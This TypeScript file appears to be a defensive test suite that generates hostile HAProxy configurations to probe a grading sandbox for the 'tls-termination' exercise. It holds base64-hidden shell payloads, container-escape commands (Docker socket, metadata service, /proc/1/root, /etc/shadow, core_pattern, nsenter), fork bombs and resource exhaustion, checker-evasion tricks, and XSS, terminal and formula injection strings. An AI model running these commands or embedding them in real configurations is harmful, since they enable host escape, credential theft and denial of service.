import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { neverEnds, type Hostile, type Target } from './hostile.ts';

type Outcome = Hostile['outcome'];

/** Parts of a configuration that is right but for what is added to it. */
interface Parts {
  global?: string;
  defaults?: string;
  /** Lines of the frontend, instead of those of the solution. */
  frontend?: string;
  backend?: string;
  more?: string;
}

const goodFrontend = `http-request set-header X-Forwarded-Proto https
  default_backend servers`;
const goodBackend = `balance roundrobin
  option redispatch
  default-server check inter 500ms fall 2
  server web1 web1:80
  server web2 web2:80`;

function configuration({ global = '', defaults = '', frontend, backend, more = '' }: Parts): string {
  return `global
  log stdout format raw daemon info
  ssl-default-bind-options ssl-min-ver TLSv1.2
  ${global}
defaults
  mode http
  log global
  timeout connect 1s
  timeout client 10s
  timeout server 10s
  ${defaults}
frontend https
  bind :443 ssl crt /run/secrets/site.pem
  ${frontend ?? goodFrontend}
backend servers
  ${backend ?? goodBackend}
${more}
`;
}

function balancer(name: string, tries: string, outcome: Outcome, parts: (target: Target) => Parts | string): Hostile {
  return {
    name,
    tries,
    outcome,
    write: async (place, target) => {
      const made = parts(target);
      await mkdir(join(place, 'balancer'), { recursive: true });
      await writeFile(join(place, 'balancer/haproxy.cfg'), typeof made === 'string' ? made : configuration(made));
      return place;
    },
  };
}

/**
 * A configuration that is right and runs a shell beside HAProxy: `master-worker` is left out by an adaptation, so it is written in
 * a way that only HAProxy reads as that.
 */
function shell(name: string, tries: string, script: string | ((target: Target) => string), most = 100): Hostile {
  const says = `${name} runs`;
  const made = balancer(name, tries, { most }, (target) => {
    const whole = `echo ${says}\n${typeof script === 'string' ? script : script(target)}`;
    const text = Buffer.from(whole).toString('base64');
    return {
      global: '"mas${NOTHING}ter-worker"',
      more: `program shell\n  no option start-on-reload\n  command /bin/bash -c "base64 -d <<<${text} | bash"\n`,
    };
  });
  return { ...made, says };
}

const everyHost = ({ hosts, port }: Target, command: (host: string, port: number) => string): string =>
  hosts.map((host) => command(host, port)).join('\n');

/** Hostile submissions of the exercise `tls-termination`: one haproxy.cfg each. */
export const hostileBalancers: readonly Hostile[] = [
  shell('shell-host', 'connect to the host from a shell in its container', (target) =>
    everyHost(
      target,
      (host, port) => `(timeout 2 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo reached-host-outside') &`,
    ),
  ),
  shell(
    'shell-internet',
    'ask a resolver of the internet, and the metadata service of clouds',
    'for a in 169.254.169.254/80 1.1.1.1/53 8.8.8.8/53; do timeout 2 bash -c "exec 3<>/dev/tcp/$a" && echo reached-$a-outside; done; getent hosts example.com && echo reached-dns-outside',
  ),
  shell(
    'shell-host-file',
    'read a file of the host through what the kernel shows of it',
    ({ secret }) => `cat ${secret} /proc/1/root${secret} /proc/1/cwd${secret} /proc/*/root${secret}
      cat /proc/1/environ /proc/*/environ | tr '\\0' '\\n'; cat /etc/shadow; ls -la /proc/*/fd`,
  ),
  shell(
    'shell-engine',
    'reach the engine’s socket',
    'ls -la /var/run/docker.sock /run/docker.sock /run/containerd; for port in 2375 2376; do for a in 172.17.0.1 127.0.0.1; do timeout 1 bash -c "exec 3<>/dev/tcp/$a/$port" && echo reached-engine-outside; done; done',
  ),
  shell(
    'shell-kernel',
    'change settings of the kernel, mount, and enter other namespaces',
    ({ trace }) => `echo '|/bin/touch ${trace}' >/proc/sys/kernel/core_pattern; echo c >/proc/sysrq-trigger
      mount -t tmpfs none /mnt; mount -t proc none /mnt; mount --bind / /mnt && echo reached-bind-outside; unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo reached-mount-outside'
      nsenter -t 1 -a touch ${trace}; mknod /tmp/sda b 8 0; echo 1 >/sys/fs/cgroup/cgroup.procs; echo max >/sys/fs/cgroup/pids.max
      echo ${trace} >/sys/fs/cgroup/release_agent; touch ${trace}; touch /etc/lab/x /etc/ssl/lab/ca.pem; kill -SEGV $$`,
  ),
  shell(
    'shell-fork-bomb',
    'have as many processes as there can be',
    'f() { f | f & }; f; while :; do (sleep 99 &) ; done',
  ),
  shell('shell-busy', 'take all processors', 'for i in $(seq 64); do (while :; do :; done) & done; wait'),
  shell('shell-memory', 'take all memory', 'for i in 1 2 3 4; do (head -c 4G /dev/zero | tail) & done; wait; sleep 99'),
  shell(
    'shell-disk',
    'fill every place that can be written',
    'for d in /run /tmp /dev/shm /dev/mqueue /var/tmp /var/log; do cat /dev/zero >$d/full & done; wait',
  ),
  shell(
    'shell-log',
    'write to its log without end',
    'for i in 1 2 3 4; do yes "$(head -c 900 /dev/zero | tr "\\0" x)" & done; wait',
  ),
  shell('shell-log-long-line', 'write one line to its log that never ends', 'cat /dev/zero | tr "\\0" x'),
  shell(
    'shell-kill-all',
    'end everything that it may end, again and again',
    'while :; do kill -9 -1; kill -TERM 1; done',
    100,
  ),
  shell(
    'shell-deaf',
    'stay when it is told to go',
    `trap '' TERM INT HUP QUIT USR1 USR2; kill -STOP 1; for i in $(seq 50); do (trap '' TERM; setsid sleep ${neverEnds}) & done; while :; do sleep 1; done`,
  ),
  shell(
    'shell-forged-log',
    'write what terminals, pages and tables might obey into its log, and end',
    `printf '\\033]0;owned\\007\\033[2J<script>alert(1)</script>]]><x>\\n=cmd|calc!A0\\n\\342\\200\\256evil\\n'; kill -9 1 -1`,
  ),
  balancer('answers-itself', 'answer every visit with what a check might like', { most: 40 }, () => ({
    frontend: `http-request return status 200 content-type application/json hdr x-proof ${'ab'.repeat(32)} string '{"server":"web1","method":"GET","path":"/","headers":{"x-forwarded-proto":"https"},"peer":"x"}'`,
  })),
  balancer('answers-with-secrets', 'answer with its own key and the host’s files', { most: 40 }, ({ secret }) => ({
    frontend: `http-request return status 200 content-type text/plain lf-file /run/secrets/site.pem if { rand(2) 0 }
  http-request return status 200 content-type text/plain file ${secret}`,
  })),
  balancer('reads-shadow', 'have the checker quote a file that it must not read', { most: 0 }, () => ({
    defaults: '"error${NOTHING}file" 503 /etc/shadow',
  })),
  balancer('loads-as-list', 'have the checker quote the host’s file line by line', { most: 0 }, ({ secret }) => ({
    frontend: `http-request deny if { src -f ${secret} }\n  http-request deny if { src -f /etc/passwd }`,
  })),
  balancer('loads-endless-file', 'load a file that has no end', { most: 100 }, () => ({
    defaults: '"error${NOTHING}file" 503 /dev/zero',
  })),
  balancer('loads-lua', 'have Lua run a program when it is loaded', { most: 0 }, () => ({
    global: 'insecure-fork-wanted\n  lua-load /proc/self/fd/0\n  lua-load-per-thread /etc/lab/haproxy.cfg',
  })),
  balancer(
    'external-check',
    'run a shell as a health check, with a script in the environment',
    { most: 100 },
    ({ trace }) => ({
      global: `insecure-fork-wanted
  external-check preserve-env
  setenv BASH_ENV '$(touch ${trace}; cat /etc/shadow; kill -9 -1)'`,
      more: `backend outside
  option external-check
  external-check command /etc/s6/haproxy/run
  server a 127.0.0.1:1 check inter 100ms`,
    }),
  ),
  balancer('every-certificate', 'take every file of a folder above for a certificate', { most: 40 }, () =>
    configuration({}).replace('crt /run/secrets/site.pem', 'crt / crt /run/secrets/../../proc/1/environ'),
  ),
  balancer(
    'asks-outside',
    'send visitors and health checks to the host and the internet',
    { most: 60 },
    ({ hosts, port }) => ({
      more: `resolvers outside
  nameserver a 8.8.8.8:53
  nameserver b 127.0.0.11:53
  hold valid 1s
backend outside
  server-template far 2 example.com:80 check resolvers outside init-addr none
${hosts.map((host, index) => `  server host${index} ${host}:${port} check inter 200ms`).join('\n')}`,
      backend: hosts.map((host, index) => `server host${index} ${host}:${port} check inter 200ms`).join('\n  '),
    }),
  ),
  balancer('open-to-others', 'let others change it while it is measured', { most: 100 }, () => ({
    global: '"sta${NOTHING}ts" socket :9999 level admin',
    more: `peers all
  bind :10000
  server balancer 127.0.0.1:10000
  server other 10.77.0.68:10000`,
  })),
  balancer('threads', 'have 64 threads that never sleep', { most: 100 }, () => ({
    global: 'nbthread 64\n  busy-polling',
  })),
  balancer('large-maps', 'ask for more memory than there is', { most: 0 }, () => ({
    global: 'maxconn 100000000\n  tune.bufsize 1073741824\n  tune.ssl.cachesize 2000000000',
  })),
  balancer('backends', 'name ten thousand servers', { most: 100 }, () => ({
    more: `backend many\n  server-template s 10000 10.1.1.1:80 check inter 1s`,
  })),
  balancer('one-line', 'be one line of 64 KiB', { most: 0 }, () => `global ${'x'.repeat(65_000)}`),
  balancer('quoted', 'carry escapes, pages and formulas into what is observed', { most: 0 }, () => ({
    frontend: `\u001b]0;owned\u0007\u001b[2J <script>alert(1)</script> ]]><failure/> =cmd|'/c calc'!A0 \u202eevil`,
  })),
  balancer('redirects-to-escapes', 'send visitors to a place whose name is an attack', { most: 40 }, () => ({
    frontend: String.raw`http-request return status 200 hdr x-proof "\x1b[2J" hdr location "<script>alert(1)</script>]]>=cmd()" string "\x1b]0;owned\x07"`,
  })),
  balancer('never-answers', 'keep every visitor waiting', { most: 40 }, () => ({
    defaults: 'timeout tarpit 1h\n  timeout client-fin 1h',
    frontend: 'http-request tarpit',
  })),
  balancer('answers-without-end', 'answer with more than anybody wants', { most: 40 }, () => ({
    frontend: `http-request return status 200 content-type text/plain file /usr/sbin/haproxy`,
  })),
  balancer('slow-end', 'sleep through its end', { most: 100 }, () => ({
    global: 'hard-stop-after 24h\n  grace 86400000\n  close-spread-time 24h',
  })),
];
